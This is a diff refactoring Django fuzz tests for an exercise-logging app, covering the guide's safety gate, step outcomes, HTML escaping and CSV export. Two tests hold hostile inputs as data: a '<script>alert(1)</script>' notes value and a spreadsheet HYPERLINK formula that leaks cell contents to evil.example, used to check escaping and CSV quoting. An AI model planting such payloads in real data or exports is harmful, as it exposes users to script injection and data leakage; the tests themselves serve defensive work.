@@ -39,9 +39,8 @@ from hypothesis import (
 )
 from hypothesis import strategies as st
 
+from accounts.export import CSV_HEADER, csv_cell
 from accounts.models import CompletedSession, StepResult
-from accounts.views import CSV_HEADER, csv_cell
-from exercises.guide import SESSION_KEY
 from exercises.models import Contraindication, Routine
 from tests.factories import (
     PASSWORD,
@@ -49,6 +48,7 @@ from tests.factories import (
     StepResultFactory,
     UserFactory,
 )
+from tests.helpers import html, text_of
 
 User = get_user_model()
 
@@ -216,10 +216,6 @@ def rows():
     return CompletedSession.objects.count(), StepResult.objects.count()
 
 
-def page(response):
-    return response.content.decode()
-
-
 def assert_answered(response, *field_names, accepted=(302,)):
     """Never ≥ 500; either accepted, or 400 with the form and its fields."""
     if currently_in_test_context():
@@ -227,7 +223,7 @@ def assert_answered(response, *field_names, accepted=(302,)):
     assert response.status_code < 500, response.status_code
     assert response.status_code in (*accepted, 400), response.status_code
     if response.status_code == 400:
-        body = page(response)
+        body = html(response)
         assert "<form" in body
         for name in field_names:
             assert f'name="{name}"' in body, name
@@ -546,6 +542,11 @@ def test_screening_fuzz(signed_in, user, catalogue, data):
 # The guide's gate and steps
 
 
+def run_under_way(client):
+    """The safety check was acknowledged: step 1 opens instead of sending back."""
+    return client.get(f"{GATE_URL}1/").status_code == 200
+
+
 @FUZZ
 @given(acknowledged=junk)
 def test_guide_gate_fuzz(client, catalogue, acknowledged):
@@ -557,8 +558,7 @@ def test_guide_gate_fuzz(client, catalogue, acknowledged):
     assert_answered(response, "acknowledged")
     ticked = ticks(acknowledged)
     assert (response.status_code == 302) == ticked
-    started = "beginner" in client.session.get(SESSION_KEY, {})
-    assert started == ticked
+    assert run_under_way(client) == ticked
 
 
 @FUZZ
@@ -570,7 +570,7 @@ def test_guide_gate_fuzz(client, catalogue, acknowledged):
     action=either(st.sampled_from(["done", "skip", "override"])),
 )
 def test_guide_step_fuzz(client, catalogue, number, action):
-    if "beginner" not in client.session.get(SESSION_KEY, {}):
+    if not run_under_way(client):
         assert client.post(GATE_URL, {"acknowledged": "on"}).status_code == 302
     fields = {} if action is None else {"action": action}
 
@@ -581,10 +581,10 @@ def test_guide_step_fuzz(client, catalogue, number, action):
         assert response.status_code == 404
         return
     assert_answered(response, "action")
-    outcomes = client.session[SESSION_KEY]["beginner"]["outcomes"]
     if action in ("done", "skip"):
         assert response.status_code == 302
-        assert outcomes[str(number)] == {"done": "done", "skip": "skipped"}[action]
+        marked = {"done": "Marked: Done", "skip": "Marked: Skipped"}[action]
+        assert marked in text_of(client.get(f"{GATE_URL}{number}/"))
     else:
         assert response.status_code == 400
 
@@ -868,28 +868,24 @@ def assert_escaped(body, notes):
             assert piece not in body
 
 
+def log_today(client, routine, notes, token, **fields):
+    data = {"date": timezone.localdate().isoformat(), "routine": routine}
+    data |= {"notes": notes, "client_token": token, **fields}
+    assert client.post(LOG_URL, data).status_code == 302
+
+
 def test_script_in_notes_is_escaped_on_every_page(signed_in, user, ladder):
     notes = "<script>alert(1)</script>"
-    response = signed_in.post(
-        LOG_URL,
-        {
-            "date": timezone.localdate().isoformat(),
-            "routine": ladder[0],
-            "minutes": "10",
-            "notes": notes,
-            "client_token": "escape-me",
-        },
-    )
-    assert response.status_code == 302
+    log_today(signed_in, ladder[0], notes, "escape-me", minutes="10")
     session = CompletedSession.objects.get(client_token="escape-me")
     assert session.notes == notes
 
     escaped = "&lt;script&gt;alert(1)&lt;/script&gt;"
     for url in ("/progress/history/", session.get_absolute_url()):
-        body = page(signed_in.get(url))
+        body = html(signed_in.get(url))
         assert escaped in body, url
         assert notes not in body, url
-    assert notes not in page(signed_in.get("/progress/"))
+    assert notes not in html(signed_in.get("/progress/"))
 
 
 @FUZZ
@@ -901,11 +897,11 @@ def test_markup_in_notes_never_comes_back_raw(signed_in, user, notes):
     stored = CompletedSession.objects.get(pk=session.pk).notes
     assert stored == notes.strip()
 
-    detail = page(signed_in.get(session.get_absolute_url()))
+    detail = html(signed_in.get(session.get_absolute_url()))
     assert escape(stored) in detail
     assert_escaped(detail, stored)
-    assert_escaped(page(signed_in.get("/progress/history/")), stored)
-    assert_escaped(page(signed_in.get("/progress/")), stored)
+    assert_escaped(html(signed_in.get("/progress/history/")), stored)
+    assert_escaped(html(signed_in.get("/progress/")), stored)
 
 
 # The CSV export
@@ -951,16 +947,7 @@ def test_csv_cell_of_numbers_and_nothing():
 
 def test_formula_in_notes_is_quoted_in_the_csv(signed_in, user, ladder):
     notes = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
-    response = signed_in.post(
-        LOG_URL,
-        {
-            "date": timezone.localdate().isoformat(),
-            "routine": ladder[0],
-            "notes": notes,
-            "client_token": "formula",
-        },
-    )
-    assert response.status_code == 302
+    log_today(signed_in, ladder[0], notes, "formula")
 
     rows_ = export_rows(signed_in)
 
